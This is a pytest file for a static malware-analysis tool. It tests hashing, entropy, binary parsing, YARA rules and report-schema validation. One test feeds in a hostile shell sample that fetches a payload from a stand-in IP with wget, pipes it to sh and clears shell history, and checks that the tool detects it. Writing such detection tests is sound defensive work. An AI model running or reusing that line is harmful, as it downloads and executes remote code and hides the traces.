"""analyse_file / analyse_bytes end to end, and the report schema of what they produce."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import ppdeep  # type: ignore[import-untyped]
import pytest
from jsonschema import Draft202012Validator

from aasee.processing.report import load_schema
from aasee.processing.static import StaticAnalysis, YaraRules, analyse_bytes, analyse_file
from aasee.processing.static.entropy import EXACT_LIMIT, shannon_entropy
from aasee.processing.static.hashes import SSDEEP_LIMIT, fuzzy_hash

from .builders import build_pe, random_bytes
from .conftest import Programs


def schema_errors(analysis: StaticAnalysis) -> list[str]:
    schema: dict[str, Any] = {"$ref": "#/$defs/StaticAnalysis", "$defs": load_schema()["$defs"]}
    data = json.loads(analysis.model_dump_json())
    return [e.message for e in Draft202012Validator(schema).iter_errors(data)]


def test_elf_program(programs: Programs, rules: YaraRules) -> None:
    content = programs.dynamic.read_bytes()
    analysis = analyse_file(programs.dynamic, rules=rules)
    assert analysis.name == "hello" and analysis.size == len(content)
    assert analysis.md5 == hashlib.md5(content).hexdigest()
    assert analysis.sha1 == hashlib.sha1(content).hexdigest()
    assert analysis.sha256 == hashlib.sha256(content).hexdigest()
    assert analysis.ssdeep == ppdeep.hash(content)
    assert analysis.type and analysis.type.startswith("ELF 64-bit LSB")
    assert analysis.mime in ("application/x-pie-executable", "application/x-sharedlib")
    assert analysis.entropy is not None and 0 < analysis.entropy < 8
    assert analysis.elf is not None and analysis.elf.needed == ["libc.so.6"]
    assert analysis.pe is None and analysis.script is None
    assert analysis.strings.count > 10 and analysis.yara == []
    assert analysis.analysed_bytes == len(content) and not analysis.truncated
    assert analysis.errors == []
    assert schema_errors(analysis) == []


def test_pe_and_script(rules: YaraRules) -> None:
    pe = analyse_bytes(build_pe(), name="tool.exe", rules=rules)
    assert pe.pe is not None and pe.elf is None and pe.script is None
    assert pe.mime == "application/vnd.microsoft.portable-executable"
    assert schema_errors(pe) == []
    script = b"#!/bin/sh\ncd /tmp || cd /var/run; wget http://203.0.113.9/x -O- | sh\nhistory -c\n"
    analysis = analyse_bytes(script, name="install.sh", rules=rules)
    assert analysis.script is not None and analysis.script.language == "shell"
    assert [i.id for i in analysis.script.indicators] == ["download_exec", "history_clear"]
    assert [m.rule for m in analysis.yara] == ["AASEE_Download_And_Execute"]
    assert analysis.strings.urls == ["http://203.0.113.9/x"]
    assert analysis.strings.ips == ["203.0.113.9"]
    assert schema_errors(analysis) == []


def test_file_and_bytes_agree(programs: Programs, rules: YaraRules) -> None:
    by_file = analyse_file(programs.static, name="given", rules=rules)
    by_bytes = analyse_bytes(programs.static.read_bytes(), name="given", rules=rules)
    assert by_file == by_bytes


def test_large_file_is_hashed_whole_and_analysed_in_part(tmp_path: Path) -> None:
    path = tmp_path / "big.bin"
    content = random_bytes(3 << 20)
    path.write_bytes(content)
    analysis = analyse_file(path, max_bytes=1 << 20)
    assert analysis.size == len(content)
    assert analysis.sha256 == hashlib.sha256(content).hexdigest()
    assert analysis.analysed_bytes == 1 << 20 and analysis.truncated
    assert analysis.ssdeep is None  # the hash of a prefix would mislead
    assert schema_errors(analysis) == []
    cut = analyse_bytes(content, name="big.bin", max_bytes=1 << 20)
    assert cut.truncated and cut.sha256 == analysis.sha256 and cut.analysed_bytes == 1 << 20


def test_empty_file_and_odd_names(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.write_bytes(b"")
    analysis = analyse_file(empty)
    assert analysis.size == 0 and analysis.entropy is None and analysis.errors == []
    assert analysis.md5 == hashlib.md5(b"").hexdigest()
    assert schema_errors(analysis) == []
    odd = analyse_bytes(b"x", name="bad\udcffname\x1b[31m" + "n" * 5000)
    assert odd.name.startswith("bad\\xffname\x1b[31m") and len(odd.name) == 1024


def test_only_regular_files(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    # Opening a FIFO for reading blocks until a writer comes; give it one that leaves.
    writer = os.open(fifo, os.O_RDWR | os.O_NONBLOCK)
    try:
        with pytest.raises(ValueError, match="not a regular file"):
            analyse_file(fifo)
    finally:
        os.close(writer)
    with pytest.raises(OSError):
        analyse_file(tmp_path / "absent")
    with pytest.raises(OSError):
        analyse_file(tmp_path)


def test_hashes_and_entropy_values() -> None:
    assert shannon_entropy(b"") is None
    assert shannon_entropy(bytes(1000)) == 0.0
    assert shannon_entropy(bytes(range(256)) * 4) == 8.0
    # Above the exact limit the entropy is estimated from spaced blocks. Half the bytes zero
    # and the rest spread evenly over 128 values is 0.5 bit for the zeros plus 4 bits for the
    # others: 4.5.
    skewed = random_bytes(2 * EXACT_LIMIT).translate(bytes(128) + bytes(range(128, 256)))
    estimate = shannon_entropy(skewed)
    assert estimate is not None and abs(estimate - 4.5) < 0.02
    small = random_bytes(10_000)
    assert fuzzy_hash(small) == ppdeep.hash(small)
    assert fuzzy_hash(bytes(SSDEEP_LIMIT + 1)) is None


def test_fuzzy_hash_work_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    from aasee.processing.static import hashes

    monkeypatch.setattr(hashes, "SSDEEP_WORK", 200_000)
    # Random data needs one pass; zeros make ssdeep start over with ever smaller blocks.
    assert hashes.fuzzy_hash(random_bytes(150_000)) is not None
    assert hashes.fuzzy_hash(bytes(150_000)) is None
